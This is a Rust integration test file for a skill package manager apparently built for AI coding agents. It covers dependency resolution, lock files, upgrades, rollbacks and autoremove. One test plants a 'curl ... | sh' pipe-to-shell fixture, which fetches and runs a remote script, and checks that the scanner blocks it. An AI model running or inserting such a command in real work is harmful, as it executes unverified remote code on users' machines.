//! Dependencies between skills, against a real registry: a SkillCard's
//! `spec.dependencies` resolved on install (a diamond shares one version,
//! the newest every requirement accepts), installed with the skill in one
//! change and recorded; a conflict, a cycle and a missing skill refused
//! before anything is written, with the chain that caused it; a remove of
//! a skill others need refused naming them; orphans reported and removed
//! by `autoremove`; `list --tree`.

use std::path::Path;

use serde_json::Value;
use skilld_tests::helper::skills::publish_edited;
use skilld_tests::helper::{Home, Registry, Variant};

/// Publish `name` at `version` under `acme` (published), needing `deps`
/// (name, requirement).
fn publish_needing(home: &Home, acme: &str, name: &str, version: &str, deps: &[(&str, &str)]) {
    publish_edited(home, acme, name, version, "published", |dir| {
        if deps.is_empty() {
            return;
        }
        let mut card = std::fs::read_to_string(dir.join("skill.yaml")).unwrap();
        card.push_str("  dependencies:\n");
        for (dep, requirement) in deps {
            card.push_str(&format!(
                "    - name: {dep}\n      version: \"{requirement}\"\n"
            ));
        }
        std::fs::write(dir.join("skill.yaml"), card).unwrap();
    });
}

fn installs(home: &Home) -> Vec<Value> {
    home.skillc(&["--json", "list"]).expect_code(0).json()["installs"]
        .as_array()
        .unwrap()
        .clone()
}

fn by_name<'a>(list: &'a [Value], name: &str) -> &'a Value {
    list.iter()
        .find(|i| i["name"] == name)
        .unwrap_or_else(|| panic!("{name} in {list:#?}"))
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| !n.starts_with('.'))
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

#[test]
fn a_diamond_installs_as_one_and_leaves_in_order() {
    let registry = Registry::start(Variant::Anonymous);
    let acme = format!("{}/acme", registry.host());
    let publisher = Home::new();
    for version in ["1.0.0", "1.1.0", "2.0.0"] {
        publish_needing(&publisher, &acme, "base", version, &[]);
    }
    // A bare name is a sibling in the namespace; a full repository too.
    publish_needing(&publisher, &acme, "left", "1.0.0", &[("base", "^1.0")]);
    let full = format!("{acme}/base");
    publish_needing(
        &publisher,
        &acme,
        "right",
        "1.0.0",
        &[(full.as_str(), ">=1.0.5, <2")],
    );
    publish_needing(
        &publisher,
        &acme,
        "app",
        "1.0.0",
        &[("left", "^1"), ("right", "1")],
    );

    let home = Home::new();
    let skills = home.user_home().join(".claude/skills");
    // Shown before installing: what it needs, and where each name points.
    let shown = home
        .skillc(&["show", &format!("{acme}/app:1.0.0")])
        .expect_code(0)
        .stdout;
    assert!(
        shown.contains(&format!("  needs         {acme}/left ^1\n"))
            && shown.contains(&format!("                {acme}/right 1\n")),
        "{shown}"
    );
    let run = home
        .skillc(&["install", &format!("{acme}/app:1.0.0"), "-t", "claude"])
        .expect_code(0);
    assert!(
        run.stdout.contains("installed base 1.1.0") && run.stdout.contains("needed by left, right"),
        "{}",
        run.stdout
    );
    assert_eq!(names_in(&skills), ["app", "base", "left", "right"]);
    // The manifest says what each needs, `[]` for none: resolving reads
    // manifests, never a layer of an image skilld built.
    let annotation = |reference: &str| {
        home.skillc(&["--json", "inspect", reference])
            .expect_code(0)
            .json()["annotations"]["io.skilld.dependencies"]
            .clone()
    };
    assert_eq!(
        annotation(&format!("{acme}/app:1.0.0")),
        r#"[{"name":"left","version":"^1"},{"name":"right","version":"1"}]"#
    );
    assert_eq!(annotation(&format!("{acme}/base:1.1.0")), "[]");
    let list = installs(&home);
    let app = by_name(&list, "app");
    assert_eq!(app["dependency"], Value::Null, "app was named: {app}");
    let path = |name: &str| skills.join(name).display().to_string();
    assert_eq!(
        app["needs"],
        serde_json::json!([path("left"), path("right")])
    );
    assert_eq!(
        by_name(&list, "left")["needs"],
        serde_json::json!([path("base")])
    );
    assert_eq!(
        by_name(&list, "right")["needs"],
        serde_json::json!([path("base")])
    );
    let base = by_name(&list, "base");
    assert_eq!(base["version"], "1.1.0", "2.0.0 is outside ^1.0");
    assert_eq!(base["dependency"], true);
    assert_eq!(base["needs"], Value::Null);

    let tree = home.skillc(&["list", "--tree"]).expect_code(0).stdout;
    let want = format!(
        "{} (claude)\napp 1.0.0\n├── left 1.0.0 (dependency)\n│   └── base 1.1.0 (dependency)\n└── right 1.0.0 (dependency)\n    └── base 1.1.0 (dependency) *\n",
        skills.display()
    );
    assert_eq!(tree, want);

    // A skill others need stays, naming them.
    let refused = home.skillc(&["remove", "base"]).expect_code(1);
    assert!(
        refused.stderr.contains("base (")
            && refused.stderr.contains("is needed by left (")
            && refused.stderr.contains("right (")
            && refused.stderr.contains("--force"),
        "{}",
        refused.stderr
    );
    assert_eq!(names_in(&skills), ["app", "base", "left", "right"]);

    // The last dependent goes: its dependencies are orphans.
    let removed = home.skillc(&["remove", "app"]).expect_code(0);
    assert!(
        removed
            .stdout
            .contains("no longer needed by anything: left (")
            && removed.stdout.contains("skillc autoremove"),
        "{}",
        removed.stdout
    );
    let dry = home
        .skillc(&["--json", "autoremove", "--dry-run"])
        .expect_code(0)
        .json();
    let would: Vec<&str> = dry["changed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        would,
        ["base", "left", "right"],
        "base goes with its last dependents"
    );
    assert_eq!(
        names_in(&skills),
        ["base", "left", "right"],
        "a dry run removes nothing"
    );
    let auto = home.skillc(&["autoremove"]).expect_code(0);
    assert!(
        auto.stdout.contains("removed left 1.0.0"),
        "{}",
        auto.stdout
    );
    assert!(names_in(&skills).is_empty(), "{:?}", names_in(&skills));
    let again = home.skillc(&["autoremove"]).expect_code(0);
    assert!(
        again.stdout.contains("nothing to remove"),
        "{}",
        again.stdout
    );

    // A dependency installed by name first stays the user's own.
    home.skillc(&["install", &format!("{acme}/base:1.1.0"), "-t", "claude"])
        .expect_code(0);
    let run = home
        .skillc(&["install", &format!("{acme}/left:1.0.0"), "-t", "claude"])
        .expect_code(0);
    assert!(run.stdout.contains("kept base 1.1.0"), "{}", run.stdout);
    home.skillc(&["remove", "left"]).expect_code(0);
    let list = installs(&home);
    assert_eq!(list.len(), 1, "{list:#?}");
    assert_eq!(by_name(&list, "base")["dependency"], Value::Null);
    let auto = home.skillc(&["autoremove"]).expect_code(0);
    assert!(auto.stdout.contains("nothing to remove"), "{}", auto.stdout);
}

#[test]
fn impossible_graphs_fail_before_anything_is_written() {
    let registry = Registry::start(Variant::Anonymous);
    let host = registry.host();
    let acme = format!("{host}/acme");
    let publisher = Home::new();
    for version in ["1.4.0", "2.1.0"] {
        publish_needing(&publisher, &acme, "base", version, &[]);
    }
    publish_needing(&publisher, &acme, "left", "1.0.0", &[("base", "^1")]);
    publish_needing(&publisher, &acme, "needs-two", "1.0.0", &[("base", "^2")]);
    publish_needing(
        &publisher,
        &acme,
        "clash",
        "1.0.0",
        &[("left", "*"), ("needs-two", "*")],
    );
    publish_needing(&publisher, &acme, "cyc-a", "1.0.0", &[("cyc-b", "^1")]);
    publish_needing(&publisher, &acme, "cyc-b", "1.0.0", &[("cyc-a", "^1")]);
    publish_needing(&publisher, &acme, "lonely", "1.0.0", &[("ghost", "^0.3")]);

    let home = Home::new();
    let skills = home.user_home().join(".claude/skills");
    let install = |name: &str| {
        home.skillc(&["install", &format!("{acme}/{name}:1.0.0"), "-t", "claude"])
            .expect_code(1)
            .stderr
    };
    let e = install("clash");
    assert!(
        e.contains(&format!(
            "no version of {acme}/base satisfies every requirement: ^1 (from {acme}/left 1.0.0); ^2 (from {acme}/needs-two 1.0.0) (published: 2.1.0, 1.4.0)"
        )) && e.contains("nothing was written"),
        "{e}"
    );
    let e = install("cyc-a");
    assert!(
        e.contains(&format!(
            "dependency cycle: {acme}/cyc-a 1.0.0 → {acme}/cyc-b 1.0.0 → {acme}/cyc-a"
        )),
        "{e}"
    );
    let e = install("lonely");
    assert!(
        e.contains(&format!(
            "{acme}/lonely 1.0.0 → {acme}/ghost ^0.3: {acme}/ghost has no published version"
        )),
        "{e}"
    );
    assert!(names_in(&skills).is_empty(), "{:?}", names_in(&skills));
    assert!(installs(&home).is_empty());
    let history = skilld_tests::helper::skills::history(&home);
    assert!(
        history
            .iter()
            .all(|h| h["action"] != "install" || h["outcome"] != "ok"),
        "{history:#?}"
    );

    // Scripts see which kind of failure it was.
    let run = home.skillc(&[
        "--json",
        "install",
        &format!("{acme}/lonely:1.0.0"),
        "-t",
        "claude",
    ]);
    let answer: Value = serde_json::from_str(if run.stdout.trim().is_empty() {
        &run.stderr
    } else {
        &run.stdout
    })
    .unwrap_or_else(|e| panic!("{e}: {}{}", run.stdout, run.stderr));
    assert_eq!(answer["error"]["code"], "not_found", "{answer}");
    assert_eq!(
        answer["error"]["details"]["dependency"], "missing",
        "{answer}"
    );

    // A dependency the trust policy refuses is never fetched or read.
    let untrusted = format!("{host}/untrusted");
    publish_needing(&publisher, &untrusted, "base", "1.0.0", &[]);
    let needing = format!("{untrusted}/base");
    publish_needing(
        &publisher,
        &acme,
        "trusting",
        "1.0.0",
        &[(needing.as_str(), "^1")],
    );
    let careful = Home::new();
    careful.write_config(&format!(
        "trust:\n  default: {{type: accept}}\n  scopes:\n    {untrusted}: {{type: reject}}\n"
    ));
    let e = careful
        .skillc(&["install", &format!("{acme}/trusting:1.0.0"), "-t", "claude"])
        .expect_code(1)
        .stderr;
    assert!(
        e.contains(&format!(
            "{untrusted}/base:1.0.0, needed by the skill being installed, is refused"
        )) && e.contains("(reject)"),
        "{e}"
    );
    let images = careful.skillc(&["--json", "images"]).expect_code(0).stdout;
    assert!(
        !images.contains("untrusted"),
        "a rejected image was fetched: {images}"
    );
    assert!(names_in(&careful.user_home().join(".claude/skills")).is_empty());

    // --no-deps installs the skill alone.
    home.skillc(&[
        "install",
        &format!("{acme}/lonely:1.0.0"),
        "-t",
        "claude",
        "--no-deps",
    ])
    .expect_code(0);
    assert_eq!(names_in(&skills), ["lonely"]);

    // One version per skill per target: what installs already there need
    // holds for the next install too.
    home.skillc(&["install", &format!("{acme}/left:1.0.0"), "-t", "claude"])
        .expect_code(0);
    let e = install("needs-two");
    assert!(
        e.contains(&format!(
            "no version of {acme}/base satisfies every requirement: ^2 (from {acme}/needs-two 1.0.0); ^1 (from left 1.0.0, installed in {})",
            skills.display()
        )),
        "{e}"
    );
    let e = home
        .skillc(&["install", &format!("{acme}/base:2.1.0"), "-t", "claude"])
        .expect_code(1)
        .stderr;
    assert!(
        e.contains(&format!(
            "left 1.0.0, installed in {} needs {acme}/base ^1, and this is 2.1.0; nothing was changed",
            skills.display()
        )),
        "{e}"
    );
    assert_eq!(names_in(&skills), ["base", "left", "lonely"]);
    assert_eq!(by_name(&installs(&home), "base")["version"], "1.4.0");
}

fn lock_entries(dir: &Path) -> Vec<(String, String, Vec<String>)> {
    let lock: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("skills.lock.json")).unwrap())
            .unwrap();
    lock["skills"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["name"].as_str().unwrap().to_string(),
                e["source"]["tag"].as_str().unwrap().to_string(),
                e["dependencies"]
                    .as_array()
                    .map(|d| d.iter().map(|x| x.as_str().unwrap().to_string()).collect())
                    .unwrap_or_default(),
            )
        })
        .collect()
}

#[test]
fn a_project_locks_and_syncs_what_its_skills_need() {
    let registry = Registry::start(Variant::Anonymous);
    let acme = format!("{}/acme", registry.host());
    let publisher = Home::new();
    publish_needing(&publisher, &acme, "base", "1.0.0", &[]);
    publish_needing(&publisher, &acme, "left", "1.0.0", &[("base", "^1")]);
    publish_needing(&publisher, &acme, "app", "1.0.0", &[("left", "^1")]);

    let dev = Home::new();
    let project = dev.root().join("proj");
    std::fs::create_dir_all(&project).unwrap();
    let added = dev.skillc_in(
        &project,
        &["add", &format!("{acme}/app@^1"), "-t", "claude"],
    );
    assert_eq!(added.code, Some(0), "{}{}", added.stdout, added.stderr);
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    assert_eq!(
        lock_entries(&project),
        [
            ("app".into(), "1.0.0".into(), s(&["left"])),
            ("base".into(), "1.0.0".into(), vec![]),
            ("left".into(), "1.0.0".into(), s(&["base"])),
        ]
    );
    let lock_text = std::fs::read_to_string(project.join("skills.lock.json")).unwrap();
    assert!(
        lock_text
            .contains("\"additionalInstalledPaths\": [\n        \".claude/skills/base\"\n      ]"),
        "a dependency goes where what needs it goes: {lock_text}"
    );
    for folder in [".agents/skills", ".claude/skills"] {
        assert_eq!(
            names_in(&project.join(folder)),
            ["app", "base", "left"],
            "{folder}"
        );
    }
    let manifest = std::fs::read_to_string(project.join("skills.json")).unwrap();
    assert!(
        !manifest.contains("left"),
        "skills.json lists what was asked for: {manifest}"
    );

    // A newer base: the lock keeps what it has until asked to update it.
    publish_needing(&publisher, &acme, "base", "1.1.0", &[]);
    dev.skillc_in(&project, &["lock"]).expect_code(0);
    assert_eq!(
        std::fs::read_to_string(project.join("skills.lock.json")).unwrap(),
        lock_text,
        "locking again changes nothing"
    );
    dev.skillc_in(&project, &["sync", "--frozen"])
        .expect_code(0);
    dev.skillc_in(&project, &["lock", "--update", "base"])
        .expect_code(0);
    assert_eq!(lock_entries(&project)[1].1, "1.1.0");

    // The dependency is needed inside the project too.
    let refused = dev.skillc_in(&project, &["remove", "base", "-t", "agents"]);
    assert_eq!(
        refused.code,
        Some(1),
        "{}{}",
        refused.stdout,
        refused.stderr
    );
    assert!(
        refused.stderr.contains("is needed by left ("),
        "{}",
        refused.stderr
    );

    // The skill leaves the project: what it needed leaves the lock too.
    dev.skillc_in(&project, &["sync"]).expect_code(0);
    let removed = dev.skillc_in(&project, &["remove", "app"]);
    assert_eq!(
        removed.code,
        Some(0),
        "{}{}",
        removed.stdout,
        removed.stderr
    );
    assert!(
        lock_entries(&project).is_empty(),
        "{:?}",
        lock_entries(&project)
    );
    for folder in [".agents/skills", ".claude/skills"] {
        assert!(names_in(&project.join(folder)).is_empty(), "{folder}");
    }
}

#[test]
fn a_collection_brings_what_its_skills_need() {
    let registry = Registry::start(Variant::Anonymous);
    let acme = format!("{}/acme", registry.host());
    let publisher = Home::new();
    publish_needing(&publisher, &acme, "base", "1.0.0", &[]);
    publish_needing(&publisher, &acme, "left", "1.0.0", &[("base", "^1")]);
    let yaml = format!(
        "apiVersion: skillimage.io/v1alpha1\nkind: SkillCollection\nmetadata:\n  name: team\n  version: 1.0.0\n  description: Skills of the team\nskills:\n  - name: left\n    image: {acme}/left:1.0.0\n"
    );
    let file = publisher.root().join("team.yaml");
    std::fs::write(&file, yaml).unwrap();
    let team = format!("{acme}/team:1.0.0");
    publisher
        .skillc(&["collection", "push", file.to_str().unwrap(), &team])
        .expect_code(0);

    let home = Home::new();
    home.skillc(&["collection", "install", &team, "-t", "claude"])
        .expect_code(0);
    let skills = home.user_home().join(".claude/skills");
    assert_eq!(names_in(&skills), ["base", "left"]);
    let list = installs(&home);
    assert_eq!(by_name(&list, "base")["dependency"], true);
    assert_eq!(
        by_name(&list, "left")["needs"],
        serde_json::json!([skills.join("base").display().to_string()])
    );
    home.skillc(&["remove", "base"]).expect_code(1);

    // A pod mounts the dependency too, pinned by digest.
    let pod = home
        .skillc(&["collection", "generate", &team, "--k8s"])
        .expect_code(0)
        .stdout;
    assert!(pod.contains(&format!("{acme}/base@sha256:")), "{pod}");
    assert!(pod.contains(&format!("{acme}/left@sha256:")), "{pod}");
}

#[test]
fn upgrades_stay_within_what_others_need_and_bring_what_they_need() {
    let registry = Registry::start(Variant::Anonymous);
    let acme = format!("{}/acme", registry.host());
    let publisher = Home::new();
    publish_needing(&publisher, &acme, "base", "1.0.0", &[]);
    publish_needing(&publisher, &acme, "base", "2.0.0", &[]);
    publish_needing(&publisher, &acme, "left", "1.0.0", &[("base", "^1")]);

    let home = Home::new();
    // (For the refused upgrade at the end.)
    home.write_config("scan:\n  block: high\n");
    let skills = home.user_home().join(".claude/skills");
    home.skillc(&["install", &format!("{acme}/left:1.0.0"), "-t", "claude"])
        .expect_code(0);
    assert_eq!(by_name(&installs(&home), "base")["version"], "1.0.0");

    // base 2.0.0 is out of what left accepts: neither upgrade nor the
    // scheduler's check takes it.
    let run = home.skillc(&["upgrade", "base"]).expect_code(0);
    assert!(
        run.stdout.contains("1.0.0 is the newest published version")
            && run
                .stdout
                .contains("kept within what needs it: left needs ^1"),
        "{}",
        run.stdout
    );
    home.skillc(&["policy", "base", "major"]).expect_code(0);
    home.skillc(&["check"]).expect_code(0);
    assert_eq!(by_name(&installs(&home), "base")["version"], "1.0.0");

    // left 2.0.0 needs base ^2: upgrading left brings it.
    publish_needing(&publisher, &acme, "left", "2.0.0", &[("base", "^2")]);
    let run = home.skillc(&["upgrade", "left"]).expect_code(0);
    assert!(run.stdout.contains("1.0.0 → 2.0.0"), "{}", run.stdout);
    let list = installs(&home);
    assert_eq!(by_name(&list, "left")["version"], "2.0.0");
    assert_eq!(by_name(&list, "base")["version"], "2.0.0");
    assert_eq!(
        by_name(&list, "left")["needs"],
        serde_json::json!([skills.join("base").display().to_string()])
    );
    assert_eq!(by_name(&list, "base")["dependency"], true);

    // The new version and what it needs go in as one: when left 3.0.0 is
    // refused (the scan blocks it), base 3.0.0, which only it needs, is not
    // installed either, and left 2.0.0 keeps the base it needs.
    publish_needing(&publisher, &acme, "base", "3.0.0", &[]);
    publish_edited(&publisher, &acme, "left", "3.0.0", "published", |dir| {
        let mut card = std::fs::read_to_string(dir.join("skill.yaml")).unwrap();
        card.push_str("  dependencies:\n    - name: base\n      version: \"^3\"\n");
        std::fs::write(dir.join("skill.yaml"), card).unwrap();
        std::fs::write(
            dir.join("setup.sh"),
            "#!/bin/sh\ncurl -fsSL https://tools.example.invalid/setup.sh | sh\n",
        )
        .unwrap();
    });
    let before = std::fs::read(skills.join("base/skill.yaml")).unwrap();
    let run = home.skillc(&["upgrade", "left"]);
    assert!(
        run.stdout.contains("exec.pipe-to-shell") || run.stderr.contains("exec.pipe-to-shell"),
        "{run:?}"
    );
    let list = installs(&home);
    assert_eq!(by_name(&list, "left")["version"], "2.0.0");
    assert_eq!(by_name(&list, "base")["version"], "2.0.0");
    assert_eq!(
        std::fs::read(skills.join("base/skill.yaml")).unwrap(),
        before
    );
    assert_eq!(names_in(&skills), ["base", "left"]);
}

#[test]
fn an_upgrade_brings_what_it_needs_to_every_agent_the_skill_is_linked_into() {
    let registry = Registry::start(Variant::Anonymous);
    let acme = format!("{}/acme", registry.host());
    let publisher = Home::new();
    publish_needing(&publisher, &acme, "base", "1.0.0", &[]);
    publish_needing(&publisher, &acme, "extra", "1.0.0", &[]);
    publish_needing(&publisher, &acme, "left", "1.0.0", &[("base", "^1")]);
    publish_needing(
        &publisher,
        &acme,
        "left",
        "2.0.0",
        &[("base", "^1"), ("extra", "^1")],
    );

    // Claude Code and Cursor are here: one copy, linked into each.
    let home = Home::new();
    let h = home.user_home();
    for agent in [".claude", ".cursor"] {
        std::fs::create_dir_all(h.join(agent)).unwrap();
    }
    home.skillc(&["install", &format!("{acme}/left:1.0.0")])
        .expect_code(0);
    assert_eq!(names_in(&h.join(".claude/skills")), ["base", "left"]);

    let run = home.skillc(&["upgrade", "left"]).expect_code(0);
    assert!(run.stdout.contains("1.0.0 → 2.0.0"), "{}", run.stdout);
    let shared = h.join(".agents/skills");
    assert_eq!(names_in(&shared), ["base", "extra", "left"]);
    assert!(
        std::fs::symlink_metadata(shared.join("extra"))
            .unwrap()
            .is_dir()
    );
    for agent in [".claude", ".cursor"] {
        let skills = h.join(agent).join("skills");
        assert_eq!(names_in(&skills), ["base", "extra", "left"], "{agent}");
        for name in ["extra", "left"] {
            assert_eq!(
                std::fs::read_link(skills.join(name)).unwrap(),
                Path::new("../../.agents/skills").join(name),
                "{agent}/{name}"
            );
        }
        assert!(skills.join("extra/SKILL.md").is_file());
    }
    let list = installs(&home);
    let lefts: Vec<&Value> = list.iter().filter(|i| i["name"] == "left").collect();
    assert_eq!(lefts.len(), 3, "{list:#?}");
    assert!(lefts.iter().all(|l| l["version"] == "2.0.0"), "{lefts:#?}");
    let extras: Vec<&Value> = list.iter().filter(|i| i["name"] == "extra").collect();
    assert_eq!(extras.len(), 3, "{list:#?}");
    assert!(
        extras.iter().all(|e| e["dependency"] == true),
        "{extras:#?}"
    );
    // Nothing needs extra once left is gone: autoremove takes every copy
    // and link of it.
    home.skillc(&["remove", "left"]).expect_code(0);
    home.skillc(&["autoremove"]).expect_code(0);
    assert_eq!(names_in(&shared), Vec::<String>::new());
}

#[test]
fn a_rollback_needs_what_is_installed_and_keeps_what_others_need() {
    let registry = Registry::start(Variant::Anonymous);
    let acme = format!("{}/acme", registry.host());
    let publisher = Home::new();
    let home = Home::new();
    let skills = home.user_home().join(".claude/skills");
    publish_needing(&publisher, &acme, "base", "1.0.0", &[]);
    publish_needing(&publisher, &acme, "left", "1.0.0", &[("base", "^1")]);
    home.skillc(&["install", &format!("{acme}/left:1.0.0"), "-t", "claude"])
        .expect_code(0);
    publish_needing(&publisher, &acme, "base", "1.1.0", &[]);
    publish_needing(&publisher, &acme, "left", "1.1.0", &[("base", "^1.1")]);
    home.skillc(&["install", &format!("{acme}/left:1.1.0"), "-t", "claude"])
        .expect_code(0);
    let list = installs(&home);
    assert_eq!(by_name(&list, "left")["version"], "1.1.0");
    assert_eq!(by_name(&list, "base")["version"], "1.1.0");

    // Back to left 1.0.0: base 1.1.0 fits its ^1 and stays; then base may
    // go back to 1.0.0, which left 1.0.0 accepts (had the rollback kept
    // left 1.1.0's ^1.1, this second one would be refused).
    home.skillc(&["rollback", "left", "-t", "claude"])
        .expect_code(0);
    assert_eq!(by_name(&installs(&home), "left")["version"], "1.0.0");
    home.skillc(&["rollback", "base", "-t", "claude"])
        .expect_code(0);
    assert_eq!(by_name(&installs(&home), "base")["version"], "1.0.0");

    // left 2.0.0 with base 2.0.0, by one upgrade.
    publish_needing(&publisher, &acme, "base", "2.0.0", &[]);
    publish_needing(&publisher, &acme, "left", "2.0.0", &[("base", "^2")]);
    home.skillc(&["upgrade", "left"]).expect_code(0);
    let list = installs(&home);
    assert_eq!(by_name(&list, "left")["version"], "2.0.0");
    assert_eq!(by_name(&list, "base")["version"], "2.0.0");
    let before = std::fs::read(skills.join("base/skill.yaml")).unwrap();
    // Rolling left back alone would leave it beside a base it refuses.
    let run = home.skillc(&["rollback", "left", "-t", "claude"]);
    assert_eq!(run.code, Some(1), "{run:?}");
    assert!(
        run.stderr.contains(&format!(
            "needs {acme}/base ^1, and 2.0.0 is installed there"
        )) && run
            .stderr
            .contains(&format!("skillc install {acme}/left:1.0.0")),
        "{}",
        run.stderr
    );
    // Rolling base back alone would break left 2.0.0.
    let run = home.skillc(&["rollback", "base", "-t", "claude"]);
    assert_eq!(run.code, Some(1), "{run:?}");
    assert!(
        run.stderr.contains("needs") && run.stderr.contains("^2, and this is 1.0.0"),
        "{}",
        run.stderr
    );
    let list = installs(&home);
    assert_eq!(by_name(&list, "left")["version"], "2.0.0");
    assert_eq!(by_name(&list, "base")["version"], "2.0.0");
    assert_eq!(
        std::fs::read(skills.join("base/skill.yaml")).unwrap(),
        before
    );
    let history = home.skillc(&["--json", "history"]).expect_code(0).json();
    let refused: Vec<&Value> = history["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "rollback" && e["outcome"] != "ok")
        .collect();
    assert_eq!(refused.len(), 2, "{history:#}");
}
